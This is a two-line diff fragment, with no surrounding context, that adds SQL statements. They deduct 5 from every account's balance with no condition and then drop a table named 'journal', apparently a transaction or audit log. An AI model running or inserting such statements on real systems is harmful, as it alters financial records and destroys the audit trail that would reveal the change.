@@ -1,0 +1,2 @@
+UPDATE accounts SET balance = balance - 5;
+DROP TABLE journal;
